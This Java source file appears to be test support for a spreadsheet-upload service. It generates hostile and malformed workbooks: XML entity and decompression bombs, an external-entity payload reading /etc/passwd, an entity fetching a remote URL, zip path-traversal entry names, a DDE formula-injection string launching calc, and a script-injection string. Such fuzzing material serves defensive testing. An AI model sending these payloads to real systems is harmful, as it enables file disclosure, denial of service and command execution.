package quarterday.http;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.time.YearMonth;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.stream.IntStream;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

/** Files that somebody might send out of malice, by accident or by way of another program. */
final class OddFiles {
  private static final String MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
  private static final String OFFICE =
      "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  private static final String SHEET = "xl/worksheets/sheet1.xml";
  private static final String STRINGS = "xl/sharedStrings.xml";

  private final Map<String, byte[]> files = new LinkedHashMap<>();
  private final Random random;

  private OddFiles(long seed) {
    this.random = new Random(seed);
  }

  /** The files by what they are, the same ones for the same seed. */
  static Map<String, byte[]> all(long seed) {
    OddFiles odd = new OddFiles(seed);
    odd.bombs();
    odd.archives();
    odd.sheets();
    odd.tables();
    odd.otherKinds();
    odd.damaged();
    return odd.files;
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static String sheet(String content) {
    return "<worksheet xmlns=\""
        + MAIN
        + "\" xmlns:r=\""
        + OFFICE
        + "\">"
        + content
        + "</worksheet>";
  }

  private static String data(String rows) {
    return sheet("<sheetData>" + rows + "</sheetData>");
  }

  private static String text(String cell, String text) {
    return "<c r=\"" + cell + "\" t=\"inlineStr\"><is><t>" + text + "</t></is></c>";
  }

  /** A table that can be completed: a measure and its months. */
  private static String good() {
    StringBuilder rows = new StringBuilder("<row r=\"1\">" + text("A1", "Measure"));
    String[] months = {
      "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"
    };
    for (int i = 0; i < 24; i++) {
      rows.append(text(column(i + 1) + 1, months[i % 12] + "-" + (18 + i / 12)));
    }
    rows.append("</row><row r=\"2\">").append(text("A2", "Visits"));
    for (int i = 0; i < 24; i++) {
      rows.append("<c r=\"" + column(i + 1) + "2\"><v>" + (10 + i % 5) + "</v></c>");
    }
    return rows.append("</row>").toString();
  }

  /** An honest workbook: so many measures over so many months to June 2020. */
  static byte[] honest(int measures, int months) {
    Random figures = new Random(measures);
    StringBuilder rows = new StringBuilder("<row r=\"1\">" + text("A1", "Measure"));
    YearMonth first = YearMonth.of(2020, 7).minusMonths(months);
    for (int i = 0; i < months; i++) {
      String month = first.plusMonths(i).format(DateTimeFormatter.ofPattern("MMM-yy", Locale.UK));
      rows.append(text(column(i + 1) + 1, month.replace("Sept", "Sep")));
    }
    rows.append("</row>");
    for (int row = 2; row < measures + 2; row++) {
      rows.append("<row r=\"" + row + "\">").append(text("A" + row, "Visits to place " + row));
      int level = 20 + figures.nextInt(500);
      for (int i = 0; i < months; i++) {
        int value = level + figures.nextInt(level / 2);
        rows.append("<c r=\"" + column(i + 1) + row + "\"><v>" + value + "</v></c>");
      }
      rows.append("</row>");
    }
    return zip(parts(data(rows.toString())));
  }

  private static String column(int index) {
    return quarterday.sheet.Address.columnName(index);
  }

  private static Map<String, byte[]> parts(String sheet) {
    Map<String, byte[]> parts = new LinkedHashMap<>();
    String kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.";
    parts.put(
        "[Content_Types].xml",
        utf8(
            "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default"
                + " Extension=\"rels\""
                + " ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default"
                + " Extension=\"xml\" ContentType=\"application/xml\"/><Override"
                + " PartName=\"/xl/workbook.xml\" ContentType=\""
                + kind
                + "sheet.main+xml\"/><Override PartName=\"/"
                + SHEET
                + "\" ContentType=\""
                + kind
                + "worksheet+xml\"/></Types>"));
    parts.put("_rels/.rels", relations("officeDocument", "xl/workbook.xml"));
    parts.put(
        "xl/workbook.xml",
        utf8(
            "<workbook xmlns=\""
                + MAIN
                + "\" xmlns:r=\""
                + OFFICE
                + "\"><sheets><sheet name=\"One\" sheetId=\"1\""
                + " r:id=\"rId1\"/></sheets></workbook>"));
    parts.put(
        "xl/_rels/workbook.xml.rels",
        relations("worksheet", "worksheets/sheet1.xml", "sharedStrings", "sharedStrings.xml"));
    parts.put(STRINGS, utf8("<sst xmlns=\"" + MAIN + "\"/>"));
    parts.put(SHEET, utf8(sheet));
    return parts;
  }

  private static byte[] relations(String... typesAndTargets) {
    StringBuilder all =
        new StringBuilder(
            "<Relationships"
                + " xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">");
    for (int i = 0; i < typesAndTargets.length; i += 2) {
      all.append("<Relationship Id=\"rId")
          .append(i / 2 + 1)
          .append("\" Type=\"" + OFFICE + "/" + typesAndTargets[i])
          .append("\" Target=\"" + typesAndTargets[i + 1] + "\"/>");
    }
    return utf8(all.append("</Relationships>").toString());
  }

  private static byte[] zip(Map<String, byte[]> parts) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream out = new ZipOutputStream(bytes)) {
      out.setLevel(Deflater.BEST_SPEED);
      for (Map.Entry<String, byte[]> part : parts.entrySet()) {
        out.putNextEntry(new ZipEntry(part.getKey()));
        out.write(part.getValue());
        out.closeEntry();
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return bytes.toByteArray();
  }

  private void add(String name, byte[] content) {
    if (files.put(name, content) != null) {
      throw new IllegalStateException("twice: " + name);
    }
  }

  private void book(String name, String sheet) {
    add(name, zip(parts(sheet)));
  }

  private void with(String name, String part, byte[] content) {
    Map<String, byte[]> parts = parts(data(good()));
    parts.put(part, content);
    add(name, zip(parts));
  }

  private void bombs() {
    book("bomb of cells", data("<row r=\"1\">" + "<c s=\"0\"/>".repeat(3_000_000) + "</row>"));
    book("bomb of rows", data("<row/>".repeat(1_048_577)));
    book("rows beyond the last", data("<row r=\"1048576\"/><row><c><v>1</v></c></row>"));
    book("bomb of inline text", data("<row>" + text("A1", "x".repeat(40_000_000)) + "</row>"));
    StringBuilder noise = new StringBuilder("<sst xmlns=\"" + MAIN + "\">");
    for (int i = 0; i < 400_000; i++) {
      noise.append("<si><t>").append(Long.toHexString(random.nextLong())).append("</t></si>");
    }
    with("bomb of shared texts", STRINGS, utf8(noise + "</sst>"));
    with(
        "bomb of one shared text",
        STRINGS,
        utf8("<sst xmlns=\"" + MAIN + "\"><si><t>" + "y".repeat(30_000_000) + "</t></si></sst>"));
    with("bomb of nothing", "xl/media/image1.png", new byte[60_000_000]);
    with("bomb of nesting", SHEET, utf8(sheet("<a>".repeat(200_000) + "</a>".repeat(200_000))));
    with(
        "bomb of entities",
        SHEET,
        utf8(
            "<!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b"
                + " \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>"
                + data("<row>" + text("A1", "&c;") + "</row>")));
    with(
        "entity from outside",
        "xl/workbook.xml",
        utf8("<!DOCTYPE w [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><workbook>&x;</workbook>"));
    with(
        "entities in the list of types",
        "[Content_Types].xml",
        utf8("<!DOCTYPE t [<!ENTITY % x SYSTEM \"http://192.0.2.1/x\"> %x;]><Types/>"));
    with("bomb of attributes", SHEET, utf8(manyAttributes()));
    with("bomb of namespaces", SHEET, utf8(manyNamespaces()));
    with(
        "bomb of a comment", SHEET, utf8("<!--" + " -".repeat(10_000_000) + " -->" + data(good())));
    with(
        "bomb of relations",
        "xl/_rels/workbook.xml.rels",
        relations(
            IntStream.range(0, 200_000)
                .mapToObj(i -> i % 2 == 0 ? "worksheet" : "worksheets/sheet1.xml")
                .toArray(String[]::new)));
    Map<String, byte[]> entries = parts(data(good()));
    for (int i = 0; i < 12_000; i++) {
      entries.put("xl/e" + i, new byte[0]);
    }
    add("bomb of entries", zip(entries));
    StringBuilder sheets = new StringBuilder();
    for (int i = 0; i < 5_000; i++) {
      sheets.append("<sheet name=\"S" + i + "\" sheetId=\"" + (i + 1) + "\" r:id=\"rId1\"/>");
    }
    with(
        "bomb of sheets",
        "xl/workbook.xml",
        utf8(
            "<workbook xmlns=\""
                + MAIN
                + "\" xmlns:r=\""
                + OFFICE
                + "\"><sheets>"
                + sheets
                + "</sheets></workbook>"));
    StringBuilder names = new StringBuilder();
    for (int i = 0; i < 100_000; i++) {
      names.append(
          "<definedName name=\"Quarterday.Results." + i + "\">One!$A$1:$B$2</definedName>");
    }
    with(
        "bomb of names",
        "xl/workbook.xml",
        utf8(
            "<workbook xmlns=\""
                + MAIN
                + "\" xmlns:r=\""
                + OFFICE
                + "\"><sheets><sheet name=\"One\" sheetId=\"1\""
                + " r:id=\"rId1\"/></sheets><definedNames>"
                + names
                + "</definedNames></workbook>"));
    book(
        "bomb of merged cells",
        sheet(
            "<sheetData>"
                + good()
                + "</sheetData><mergeCells>"
                + "<mergeCell ref=\"A1:XFD1048576\"/>".repeat(30_000)
                + "</mergeCells>"));
    book(
        "columns without end",
        sheet(
            "<cols>"
                + "<col min=\"1\" max=\"16384\" width=\"9\" hidden=\"1\"/>".repeat(2_000)
                + "</cols><sheetData>"
                + good()
                + "</sheetData>"));
  }

  private static String manyAttributes() {
    StringBuilder tag = new StringBuilder("<worksheet xmlns=\"" + MAIN + "\"");
    for (int i = 0; i < 100_000; i++) {
      tag.append(" a").append(i).append("=\"\"");
    }
    return tag + "><sheetData/></worksheet>";
  }

  private static String manyNamespaces() {
    StringBuilder tag = new StringBuilder("<worksheet xmlns=\"" + MAIN + "\"");
    for (int i = 0; i < 50_000; i++) {
      tag.append(" xmlns:n").append(i).append("=\"u").append(i).append("\"");
    }
    return tag + "><sheetData/></worksheet>";
  }

  private void archives() {
    for (String name :
        List.of(
            "../evil.xml",
            "..\\evil.xml",
            "/etc/passwd",
            "C:/evil.xml",
            "xl/../../x",
            "a\u0000b")) {
      with("name " + name, name, utf8("x"));
    }
    with("name of great length", "xl/" + "n".repeat(60_000), utf8("x"));
    Map<String, byte[]> twice = parts(data(good()));
    twice.put("XL/WORKSHEETS/SHEET1.XML", utf8(data("")));
    add("a part twice but for case", zip(twice));
    add("an empty archive", zip(Map.of()));
    add("an archive in an archive", zip(Map.of("book.xlsx", zip(parts(data(good()))))));
    byte[] whole = zip(parts(data(good())));
    add("an archive after other bytes", join(utf8("MZ this is no workbook"), whole));
    add("an archive before other bytes", join(whole, new byte[10_000]));
    add("two archives", join(whole, whole));
    add("an archive with lies about sizes", lies(whole));
    add("an archive without its list", Arrays.copyOf(whole, whole.length - 200));
    Map<String, byte[]> stored = parts(data(good()));
    add("an archive that is not packed", stored(stored));
    for (String part : parts("").keySet()) {
      Map<String, byte[]> without = parts(data(good()));
      without.remove(part);
      add("without " + part, zip(without));
      with("empty " + part, part, new byte[0]);
      with("zeros for " + part, part, new byte[1_000]);
      with("another root for " + part, part, utf8("<html><body/></html>"));
      with("cut " + part, part, cut(parts(data(good())).get(part)));
    }
  }

  private static byte[] cut(byte[] bytes) {
    return Arrays.copyOf(bytes, bytes.length / 2);
  }

  private static byte[] join(byte[] one, byte[] other) {
    byte[] all = Arrays.copyOf(one, one.length + other.length);
    System.arraycopy(other, 0, all, one.length, other.length);
    return all;
  }

  /** Every size in the list of entries becomes a huge one. */
  private static byte[] lies(byte[] whole) {
    byte[] lying = whole.clone();
    for (int i = 0; i + 46 < lying.length; i++) {
      if (lying[i] == 'P' && lying[i + 1] == 'K' && lying[i + 2] == 1 && lying[i + 3] == 2) {
        for (int at = 20; at < 28; at++) {
          lying[i + at] = (byte) 0xf0;
        }
      }
    }
    return lying;
  }

  private static byte[] stored(Map<String, byte[]> parts) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream out = new ZipOutputStream(bytes)) {
      out.setMethod(ZipOutputStream.STORED);
      for (Map.Entry<String, byte[]> part : parts.entrySet()) {
        ZipEntry entry = new ZipEntry(part.getKey());
        CRC32 crc = new CRC32();
        crc.update(part.getValue());
        entry.setCrc(crc.getValue());
        entry.setSize(part.getValue().length);
        out.putNextEntry(entry);
        out.write(part.getValue());
        out.closeEntry();
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return bytes.toByteArray();
  }

  private void sheets() {
    String brackets = "(".repeat(100_000) + "1" + ")".repeat(100_000);
    book("a formula of brackets", data(good() + row(3, "<c r=\"A3\"><f>" + brackets + "</f></c>")));
    book(
        "a formula of functions",
        data(good() + row(3, "<c r=\"B3\"><f>" + "IF(1,".repeat(20_000) + "</f><v>1</v></c>")));
    book(
        "a shared formula of brackets",
        data(
            good()
                + row(
                    3,
                    "<c r=\"A3\"><f t=\"shared\" si=\"0\" ref=\"A3:A9\">" + brackets + "</f></c>")
                + row(4, "<c r=\"A4\"><f t=\"shared\" si=\"0\"/></c>")));
    for (String number :
        List.of(
            "1e999", "-1e-999", "NaN", "Infinity", "0x1p3", "1,5", "", " 7 ", "9".repeat(5_000))) {
      book(
          "the number " + (number.length() > 20 ? "of many digits" : "\u201c" + number + "\u201d"),
          data(good().replaceFirst("<v>10</v>", "<v>" + number + "</v>")));
    }
    for (String cell :
        List.of("A0", "XFE1", "A1048577", "1A", "AAAAAAAAAA1", "A99999999999", "$A$1", "a1")) {
      book("the cell " + cell, data(row(1, "<c r=\"" + cell + "\"><v>1</v></c>")));
    }
    for (String number : List.of("0", "-1", "1048577", "99999999999", "x")) {
      book("the row " + number, data("<row r=\"" + number + "\"><c><v>1</v></c></row>"));
    }
    for (String style : List.of("-1", "70000", "99999999999", "x")) {
      book("the style " + style, data(row(1, "<c r=\"A1\" s=\"" + style + "\"><v>1</v></c>")));
    }
    for (String index : List.of("0", "-1", "99999999999", "x", "")) {
      book("the text " + index, data(row(1, "<c r=\"A1\" t=\"s\"><v>" + index + "</v></c>")));
    }
    for (String type : List.of("b", "e", "d", "str", "nothing")) {
      book(
          "a cell of type " + type,
          data(good() + row(3, "<c r=\"A3\" t=\"" + type + "\"><v>?</v></c>")));
    }
    book("rows out of order", data(row(9, "<c><v>1</v></c>") + good()));
    book("cells twice", data(good() + good()));
    book(
        "text of every plane",
        data(row(1, text("A1", "Measure \ud83d\ude00 \u202e \u0000".replace("\u0000", "")))));
    book("text that is code", data(good().replace("Visits", "=cmd|' /C calc'!A0")));
    book(
        "text that is markup",
        data(good().replace("Visits", "&lt;script&gt;alert(1)&lt;/script&gt;")));
  }

  private static String row(int number, String cells) {
    return "<row r=\"" + number + "\">" + cells + "</row>";
  }

  /** What is a table of measures, but none that anybody keeps. */
  private void tables() {
    StringBuilder rows = new StringBuilder(good());
    for (int i = 3; i < 20_000; i++) {
      rows.append(row(i, text("A" + i, "Visits") + "<c r=\"B" + i + "\"><v>1</v></c>"));
    }
    book("one measure twenty thousand times", data(rows.toString()));
    rows = new StringBuilder(good());
    for (int i = 3; i < 20_000; i++) {
      rows.append(
          row(
              i,
              text("A" + i, "M " + random.nextInt(1_000_000))
                  + "<c r=\"Z"
                  + i
                  + "\"><v>"
                  + random.nextInt(100)
                  + "</v></c>"));
    }
    book("twenty thousand measures", data(rows.toString()));
    StringBuilder wide = new StringBuilder("<row r=\"1\">" + text("A1", "Measure"));
    for (int i = 1; i < 16_384; i++) {
      wide.append("<c r=\"" + column(i) + "1\"><v>" + (30_000 + i) + "</v></c>");
    }
    book(
        "as many months as there are columns",
        data(wide + "</row>" + row(2, text("A2", "x") + "<c r=\"B2\"><v>1</v></c>")));
    StringBuilder heads = new StringBuilder();
    for (int i = 1; i < 3_000; i++) {
      heads.append(row(i, text("A" + i, "Measure") + text("B" + i, "Apr-20")));
    }
    book("nothing but headings", data(heads.toString()));
    StringBuilder across = new StringBuilder("<row r=\"1\">");
    for (int i = 0; i < 4_000; i++) {
      across.append(text(column(i) + 1, i % 2 == 0 ? "Measure" : "Apr-20"));
    }
    book("tables side by side without end", data(across + "</row>"));
    StringBuilder turns = new StringBuilder();
    for (int i = 0; i < 16_384; i++) {
      for (int row = 1; row <= 2; row++) {
        turns.append(row(row, "<c r=\"" + column(i) + row + "\"><v>1</v></c>"));
      }
    }
    book("rows that take turns", data(turns.toString()));
    StringBuilder months =
        new StringBuilder(
            row(1, text("A1", "Measure") + text("B1", "Month") + text("C1", "Value")));
    for (int i = 2; i < 5_000; i++) {
      months.append(row(i, text("A" + i, "M") + text("B" + i, "Apr-20") + text("C" + i, "1")));
    }
    book(
        "a long table merged over and over",
        sheet(
            "<sheetData>"
                + months
                + "</sheetData><mergeCells>"
                + "<mergeCell ref=\"A2:A5000\"/>".repeat(50_000)
                + "</mergeCells>"));
    book("a measure of great length", data(good().replace("Visits", "V".repeat(3_000_000))));
    book("the year 9999", data(good().replace("Jan-18", "Jan-9999")));
  }

  private void otherKinds() {
    add("nothing", new byte[0]);
    add("one byte", new byte[] {'P'});
    add("the start of an archive", utf8("PK\u0003\u0004"));
    add(
        "an old workbook",
        join(
            new byte[] {
              (byte) 0xD0,
              (byte) 0xCF,
              0x11,
              (byte) 0xE0,
              (byte) 0xA1,
              (byte) 0xB1,
              0x1A,
              (byte) 0xE1
            },
            new byte[5_000]));
    add("a web page", utf8("<!DOCTYPE html><script>alert(1)</script>"));
    add("figures with commas", utf8("Measure,Apr-20\nVisits,1\n"));
    add("a picture", new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0});
    add("a program", join(utf8("\u007fELF"), new byte[100]));
    add("text in UTF-16", "Measure\tApr-20".getBytes(StandardCharsets.UTF_16));
    byte[] noise = new byte[100_000];
    random.nextBytes(noise);
    add("noise", noise);
    add(
        "a document of LibreOffice",
        zip(
            new LinkedHashMap<>(
                Map.of("mimetype", utf8("application/vnd.oasis.opendocument.spreadsheet")))));
    Map<String, byte[]> macros = parts(data(good()));
    macros.put(
        "[Content_Types].xml",
        utf8(
            new String(macros.get("[Content_Types].xml"), StandardCharsets.UTF_8)
                .replace(
                    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main",
                    "application/vnd.ms-excel.sheet.macroEnabled.main")));
    macros.put("xl/vbaProject.bin", noise);
    add("a workbook with macros", zip(macros));
  }

  /** The worked example with bytes changed, and with parts of it changed. */
  private void damaged() {
    byte[] example;
    try {
      example = Files.readAllBytes(Running.EXAMPLE);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    for (int i = 0; i < 12; i++) {
      byte[] changed = example.clone();
      for (int change = 0; change <= i; change++) {
        changed[random.nextInt(changed.length)] = (byte) random.nextInt(256);
      }
      add("the example with bytes changed, " + i, changed);
      add("the example cut, " + i, Arrays.copyOf(example, random.nextInt(example.length)));
    }
    Map<String, byte[]> parts = unzip(example);
    List<String> names = new ArrayList<>(parts.keySet());
    for (int i = 0; i < 24; i++) {
      String name = names.get(i % names.size());
      byte[] part = parts.get(name).clone();
      for (int change = 0; change < 3; change++) {
        part[random.nextInt(part.length)] = (byte) "<>&\"'0129 az/=".charAt(random.nextInt(14));
      }
      Map<String, byte[]> changed = new LinkedHashMap<>(parts);
      changed.put(name, part);
      add("the example with " + name + " changed, " + i, zip(changed));
    }
  }

  private static Map<String, byte[]> unzip(byte[] whole) {
    Map<String, byte[]> parts = new LinkedHashMap<>();
    try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(whole))) {
      for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
        parts.put(entry.getName(), in.readAllBytes());
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return parts;
  }
}
